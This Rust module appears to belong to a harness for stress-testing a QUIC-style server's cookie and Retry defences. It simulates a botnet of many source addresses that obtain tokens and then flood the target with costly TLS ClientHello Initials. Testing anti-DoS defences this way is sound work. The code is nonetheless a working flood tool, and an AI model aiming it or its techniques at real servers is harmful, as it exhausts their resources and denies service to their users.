//! A botnet of real addresses that honours cookies: HELLO, CHALLENGE, the appointment, then a real ClientHello; and never
//! another word. The cheapest way to make a server work that costs the attacker an address.
//!
//! A few thousand bots on one thread and one socket; what is kept of each is its cookie. A server that answers HELLOs by
//! nothing gets Initials without a token, and one that answers Retry gets its token back: a bot takes what it is given.

use std::io;
use std::net::SocketAddr;
use std::thread;
use std::time::{Duration, Instant};

use postern_proto::door::limits::{CID_BYTES, NONCE_BYTES};
use postern_proto::door::{Challenge, hello};

use super::initials::{INITIAL_BYTES, Initials, TOKEN_BYTES_MAX};
use super::mmsg::{self, BATCH, Inbox, Out};
use super::plan::Assault;
use super::spray::{Bounds, Pace, send_all};
use super::tally::Tally;
use super::tls::Identity;
use super::unix_s;

/// Different ClientHellos: a server that caches what it has seen is not helped.
const HELLOS: usize = 64;

/// A bot asks again when no answer came.
const ASK_AGAIN: Duration = Duration::from_millis(500);

/// Unanswered HELLOs after which a bot comes without a token.
const ASKED_MAX: u8 = 2;

/// Initials on one cookie: as many datagrams as a gate lets through for it. Then the bot asks for the next.
const INITIALS_EACH: u8 = 8;

/// What a bot has in hand.
enum Hand {
    Nothing,
    /// Valid from, until, in Unix seconds by the server's word.
    Cookie(Box<[u8]>, u32, u32),
    /// quinn's Retry: its token, for this connection id.
    Retry(Box<[u8]>, Box<[u8]>),
    /// Nobody gives cookies here.
    Bare,
}

struct Bot {
    hand: Hand,
    asked: u8,
    used: u8,
    asked_at: Option<Instant>,
}

/// Attacks until the end.
///
/// # Errors
/// The system refuses a socket, or packets from these addresses.
pub(super) fn run(
    target: SocketAddr,
    assault: &Assault,
    seed: u64,
    tally: &Tally,
    bounds: &Bounds<'_>,
) -> io::Result<()> {
    let origins = assault.origins().ok_or_else(|| io::Error::other("the plan was not checked"))?;
    let identity = Identity::unknown().map_err(io::Error::other)?;
    let initials = Initials::new(&identity.client(None), HELLOS).ok_or_else(|| io::Error::other("TLS refuses"))?;
    let socket = mmsg::socket(target)?;
    // A crowd's answers come in a burst.
    rustix::net::sockopt::set_socket_recv_buffer_size(&socket, 1 << 20)?;
    let bot = |_| Bot { hand: Hand::Nothing, asked: 0, used: 0, asked_at: None };
    let mut net =
        Net { bots: (0..origins.count).map(bot).collect(), rng: fastrand::Rng::with_seed(seed), seed, initials, tally };
    let mut inbox = Inbox::new();
    let mut pace = Pace::new(assault.rate);
    let mut room = vec![[0; INITIAL_BYTES]; BATCH];
    let (mut turn, mut left) = (0_u32, assault.packets_max.unwrap_or(u64::MAX));
    let started = Instant::now();
    while left > 0 && !bounds.over() {
        let due = pace.due().min(left as usize).min(BATCH);
        let (now, now_s) = (Instant::now(), unix_s());
        let mut sources = Vec::with_capacity(BATCH);
        let mut sealed = 0;
        // Who has nothing to do yet is passed over, but not without end.
        for _ in 0..4 * BATCH {
            if sources.len() == BATCH || sealed == due {
                break;
            }
            let number = turn;
            turn = (turn + 1) % origins.count;
            match net.play(number, now, now_s, &mut room[sources.len()]) {
                Did::Nothing => continue,
                Did::Asked => {}
                Did::Knocked => sealed += 1,
            }
            sources.push(origins.at(number));
        }
        let batch: Vec<Out<'_>> =
            sources.iter().zip(&room).map(|(source, bytes)| Out { source: *source, bytes }).collect();
        send_all(&socket, target, &batch, tally, bounds)?;
        pace.sent(sealed);
        left = left.saturating_sub(sealed as u64);
        if !batch.is_empty() {
            tally.us.set(started.elapsed().as_micros() as u64);
        }
        let mut octets = 0;
        let answers = inbox.receive(&socket, |to, bytes| {
            octets += bytes.len();
            if let Some(number) = origins.number(to) {
                net.hear(number, bytes);
            }
        })?;
        tally.answers.add(answers);
        tally.answer_octets.add(octets);
        if batch.is_empty() && answers == 0 {
            thread::sleep(Duration::from_micros(500));
        }
    }
    Ok(())
}

/// What a bot did at its turn.
enum Did {
    Nothing,
    Asked,
    Knocked,
}

struct Net<'a> {
    bots: Vec<Bot>,
    rng: fastrand::Rng,
    seed: u64,
    initials: Initials,
    tally: &'a Tally,
}

impl Net<'_> {
    /// The bot's own, so that no table of questions is needed.
    fn nonce(&self, number: u32) -> [u8; NONCE_BYTES] {
        (self.seed ^ u64::from(number).wrapping_mul(0x9e37_79b9_7f4a_7c15)).to_be_bytes()
    }

    fn play(&mut self, number: u32, now: Instant, now_s: u32, out: &mut [u8; INITIAL_BYTES]) -> Did {
        let nonce = self.nonce(number);
        let bot = &mut self.bots[number as usize];
        if let Hand::Cookie(_, _, until) = bot.hand
            && (now_s > until || bot.used >= INITIALS_EACH)
        {
            bot.hand = Hand::Nothing;
            bot.asked = 0;
        }
        let (token, dcid): (&[u8], Option<&[u8]>) = match &bot.hand {
            Hand::Nothing if bot.asked >= ASKED_MAX && bot.asked_at.is_none_or(|at| now - at >= ASK_AGAIN) => {
                bot.hand = Hand::Bare;
                return Did::Nothing;
            }
            Hand::Nothing => {
                if bot.asked_at.is_some_and(|at| now - at < ASK_AGAIN) {
                    return Did::Nothing;
                }
                bot.asked_at = Some(now);
                bot.asked += 1;
                hello(nonce, out);
                self.tally.hellos.add(1);
                return Did::Asked;
            }
            Hand::Cookie(_, from, _) if now_s < *from => return Did::Nothing,
            Hand::Cookie(token, ..) => (token, None),
            Hand::Retry(token, dcid) => (token, Some(dcid)),
            Hand::Bare => (&[], None),
        };
        let mut fresh = [0; CID_BYTES];
        self.rng.fill(&mut fresh);
        if self.initials.seal(self.rng.usize(..), dcid.unwrap_or(&fresh), token, out).is_none() {
            bot.hand = Hand::Bare;
            return Did::Nothing;
        }
        bot.used = bot.used.saturating_add(1);
        if matches!(bot.hand, Hand::Retry(..)) {
            // One connection id each: the next begins anew.
            bot.hand = Hand::Bare;
        }
        self.tally.initials.add(1);
        Did::Knocked
    }

    fn hear(&mut self, number: u32, answer: &[u8]) {
        let nonce = self.nonce(number);
        let bot = &mut self.bots[number as usize];
        if let Some(challenge) = Challenge::parse(answer, nonce) {
            // Times are the server's; both clocks are this machine's.
            let terms = challenge.terms;
            self.tally.cookies.add(1);
            self.tally.appointments.add(usize::from(challenge.wait_s() > 0));
            (bot.asked, bot.used, bot.asked_at) = (0, 0, None);
            bot.hand = Hand::Cookie(challenge.token().into(), terms.not_before, terms.not_after);
        } else if let Some((dcid, token)) = retry(answer) {
            bot.hand = Hand::Retry(token.into(), dcid.into());
        } else if answer.first().is_some_and(|first| first & 0xf0 == 0xc0) {
            self.tally.initials_answered.add(1);
        }
    }
}

/// Of a Retry packet (RFC 9000 section 17.2.5): the id to come to, and the token.
fn retry(packet: &[u8]) -> Option<(&[u8], &[u8])> {
    if packet.first()? & 0xf0 != 0xf0 || packet.get(1..5)? != [0, 0, 0, 1] {
        return None;
    }
    let (to_bytes, rest) = packet.get(5..)?.split_first()?;
    let (from_bytes, rest) = rest.get(usize::from(*to_bytes)..)?.split_first()?;
    let from = rest.get(..usize::from(*from_bytes))?;
    let token = rest.get(from.len()..rest.len().checked_sub(16)?)?;
    (token.len() <= TOKEN_BYTES_MAX && from.len() <= 20).then_some((from, token))
}
